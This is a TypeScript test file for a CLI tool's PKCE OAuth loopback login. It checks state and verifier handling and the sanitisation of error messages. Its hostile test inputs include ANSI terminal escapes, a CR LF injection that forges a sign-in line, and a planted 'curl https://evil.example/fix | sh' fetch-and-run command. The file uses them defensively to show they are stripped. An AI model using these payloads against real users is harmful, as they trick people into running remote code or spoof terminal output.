import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pkceLogin } from './pkce-login';
import { CliError, Exit, type Connection } from './client';

// ksctl's public-client login (RFC 7636, RFC 8252): S256 only, a fresh state and verifier per login, and the loopback
// redirect is the only door: whatever a local page sends to it reaches the user as an OAuth error code at most.
describe(pkceLogin.name, () => {
  let tokenServer: Server;
  let tokenBodies: URLSearchParams[] = [];
  let c: Connection;

  beforeAll(async () => {
    tokenServer = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (d: Buffer) => chunks.push(d));
      req.on('end', () => {
        tokenBodies.push(new URLSearchParams(Buffer.concat(chunks).toString('utf8')));
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at', refresh_token: 'rt', expires_in: 3600 }));
      });
    });
    await new Promise<void>((resolve) => tokenServer.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(tokenServer.address() as AddressInfo).port}`;
    c = { apiUrl: origin, method: 'pkce', tokenEndpoint: `${origin}/token`, clientId: '9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d', scope: 'api://app/keyserver', cacheDir: mkdtempSync(join(tmpdir(), 'ksctl-pkce-spec-')) };
  });
  afterAll(async () => {
    await new Promise((resolve) => tokenServer.close(resolve));
    rmSync(c.cacheDir ?? '', { recursive: true, force: true });
  });
  beforeEach(() => {
    tokenBodies = [];
  });

  /** Starts a login, hands its sign-in URL to `browser` and returns the login's outcome. */
  async function login(browser: (signIn: URL) => Promise<void>): Promise<unknown> {
    let signIn: URL | undefined;
    const done = pkceLogin(c, {
      authorizationEndpoint: 'https://login.example.test/tenant/oauth2/v2.0/authorize',
      redirectUri: 'http://127.0.0.1:0/callback',
      openBrowser: false,
      timeoutMs: 10_000,
      print: (line) => (signIn = new URL(line.replace(/^Sign in at: /, ''))),
    }).catch((e: unknown) => e);
    while (!signIn) await new Promise((r) => setTimeout(r, 5));
    await browser(signIn);
    return done;
  }
  const callback = (signIn: URL, query: string): Promise<Response> => fetch(`${signIn.searchParams.get('redirect_uri')}?${query}`);

  it('ok S256, a fresh state and verifier per login, the verifier redeemed with the code', async () => {
    const seen: URL[] = [];
    for (let i = 0; i < 2; i++) {
      const r = await login(async (signIn) => {
        seen.push(signIn);
        expect((await callback(signIn, `code=c${i}&state=${signIn.searchParams.get('state')}`)).status).toBe(200);
      });
      expect(r).toMatchObject({ expiresAt: expect.any(Number) });
    }
    expect(seen.map((u) => u.searchParams.get('code_challenge_method'))).toEqual(['S256', 'S256']);
    expect(seen[0].searchParams.get('state')).not.toBe(seen[1].searchParams.get('state'));
    expect(seen[0].searchParams.get('code_challenge')).not.toBe(seen[1].searchParams.get('code_challenge'));
    expect(tokenBodies.map((b) => b.get('code_verifier')?.length)).toEqual([43, 43]);
    expect(tokenBodies.map((b) => b.get('code'))).toEqual(['c0', 'c1']);
  });

  it('fail a callback with a wrong state: no code is redeemed', async () => {
    const r = await login(async (signIn) => void (await callback(signIn, 'code=injected&state=guessed')));
    expect(r).toMatchObject({ exit: Exit.Auth, code: 'state_mismatch' });
    expect(tokenBodies).toEqual([]);
  });

  it.each([
    ['fail an ANSI escape in error', `error=${encodeURIComponent('\u001b]0;pwned\u0007\u001b[2J')}`],
    ['fail CR LF in error', `error=${encodeURIComponent('access_denied\r\nSigned in as admin')}`],
    ['fail a huge error', `error=${'x'.repeat(5000)}`],
    ['fail a planted sentence in error', `error=${encodeURIComponent('access_denied: your session expired, run curl https://evil.example/fix | sh')}`],
  ])('%s: only an OAuth error code shape reaches the message (ksctl\'s renderer strips control characters anyway)', async (_n, query) => {
    const r = await login(async (signIn) => void (await callback(signIn, query)));
    expect(r).toBeInstanceOf(CliError);
    const e = r as CliError;
    // eslint-disable-next-line no-control-regex
    expect(e.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(e.message.length).toBeLessThan(200);
    expect(e.code).toBe('invalid_callback');
    expect(e.message).toBe('sign-in failed (invalid_callback)');
    expect(tokenBodies).toEqual([]);
  });

  it('ok a provider OAuth error code is named', async () => {
    const r = await login(async (signIn) => void (await callback(signIn, `error=access_denied&state=${signIn.searchParams.get('state')}`)));
    expect(r).toMatchObject({ exit: Exit.Auth, code: 'access_denied' });
  });
});
